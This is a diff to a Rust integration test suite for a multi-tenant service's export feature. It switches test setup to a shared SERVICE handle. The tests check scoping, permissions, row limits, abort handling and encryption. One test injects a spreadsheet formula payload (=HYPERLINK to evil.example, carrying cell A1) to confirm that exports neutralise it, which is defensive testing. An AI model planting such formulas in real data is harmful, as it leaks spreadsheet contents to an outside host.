@@ -9,7 +9,7 @@ use service::access::{roles, scopes};
 use sqlx::AssertSqlSafe;
 
 use crate::support::{
-    ACME, Actor, BillingFixture, Fields, GLOBEX, MATRIX, Reply, TestApp, eventually, id, incident, order_body,
+    ACME, Actor, BillingFixture, Fields, GLOBEX, MATRIX, Reply, SERVICE, TestApp, eventually, id, incident, order_body,
     superuser,
 };
 
@@ -48,7 +48,7 @@ async fn add_orders(app: &TestApp, orders: u32) {
 
 #[tokio::test]
 async fn crypto_09_export_contains_the_period_of_the_callers_tenant() {
-    let app = TestApp::start().await;
+    let app = SERVICE.start().await;
     let auditor = app.user(roles::AUDITOR);
     let admin = app.user(roles::ADMIN);
     let globex = app.user_of(&GLOBEX, roles::ADMIN, &scopes::ALL);
@@ -89,7 +89,7 @@ async fn crypto_09_export_contains_the_period_of_the_callers_tenant() {
 
 #[tokio::test]
 async fn crypto_09_invoice_export_contains_payments_and_totals() {
-    let app = TestApp::start().await;
+    let app = SERVICE.start().await;
     let fixture = BillingFixture::new(&app);
     let order = fixture.order("PEN-BLUE", 2).await;
     let issued = fixture.issue(&order).await.ok(201);
@@ -102,7 +102,7 @@ async fn crypto_09_invoice_export_contains_payments_and_totals() {
 
 #[tokio::test]
 async fn crypto_09_csv_formulas_are_neutralised() {
-    let app = TestApp::start().await;
+    let app = SERVICE.start().await;
     let formula = "=HYPERLINK(\"https://evil.example/?\"&A1)";
     let mut order = order_body("PEN-BLUE", 1);
     order["note"] = json!(formula);
@@ -114,7 +114,7 @@ async fn crypto_09_csv_formulas_are_neutralised() {
 
 #[tokio::test]
 async fn crypto_09_export_needs_scope_and_permission() {
-    let app = TestApp::start().await;
+    let app = SERVICE.start().await;
     for role in [roles::VIEWER, roles::SALES, roles::BILLING] {
         let reply = export(&app.user(role), &all_time("orders")).await;
         assert_eq!(reply.problem(403), "forbidden");
@@ -128,7 +128,7 @@ async fn crypto_09_export_needs_scope_and_permission() {
 
 #[tokio::test]
 async fn crypto_09_export_over_the_row_limit_is_rejected() {
-    let app = TestApp::start_with(&[("APP_EXPORTS__MAX_ROWS", "2000")]).await;
+    let app = SERVICE.start_with(&[("APP_EXPORTS__MAX_ROWS", "2000")]).await;
     let auditor = app.user(roles::AUDITOR);
     add_orders(&app, 2_001).await;
     let reply = export(&auditor, &all_time("orders")).await;
@@ -139,7 +139,7 @@ async fn crypto_09_export_over_the_row_limit_is_rejected() {
 
 #[tokio::test]
 async fn crypto_09_export_events_count_the_rows_even_of_a_partial_export() {
-    let app = TestApp::start().await;
+    let app = SERVICE.start().await;
     add_orders(&app, 60_000).await;
     let auditor = app.user(roles::AUDITOR);
     let reply = export(&auditor, &all_time("orders")).await;
@@ -187,7 +187,7 @@ async fn assert_aborted(app: &TestApp, interrupt: impl AsyncFnOnce()) {
 
 #[tokio::test]
 async fn crypto_09_failed_export_is_aborted() {
-    let app = TestApp::start().await;
+    let app = SERVICE.start().await;
     let fail = async || {
         let revoke = "revoke select on orders from app_reader";
         sqlx::raw_sql(revoke).execute(&mut superuser(&app.database).await).await.unwrap();
@@ -197,20 +197,20 @@ async fn crypto_09_failed_export_is_aborted() {
 
 #[tokio::test]
 async fn crypto_09_rows_added_during_an_export_do_not_exceed_the_limit() {
-    let app = TestApp::start_with(&[("APP_EXPORTS__MAX_ROWS", "60100")]).await;
+    let app = SERVICE.start_with(&[("APP_EXPORTS__MAX_ROWS", "60100")]).await;
     assert_aborted(&app, async || add_orders(&app, 60_000).await).await;
 }
 
 #[tokio::test]
 async fn crypto_09_export_is_aborted_when_its_caller_is_revoked() {
-    let app = TestApp::start().await;
-    let revoke = async || incident(&app.database, &["revoke", "subject", "auditor@acme.example"]);
+    let app = SERVICE.start().await;
+    let revoke = async || incident(&SERVICE, &app.database, &["revoke", "subject", "auditor@acme.example"]);
     assert_aborted(&app, revoke).await;
 }
 
 #[tokio::test]
 async fn crypto_09_export_is_encrypted_for_the_recipient() {
-    let app = TestApp::start().await;
+    let app = SERVICE.start().await;
     add_orders(&app, 1_500).await;
     let auditor = app.user(roles::AUDITOR);
     let identity = age::x25519::Identity::generate();
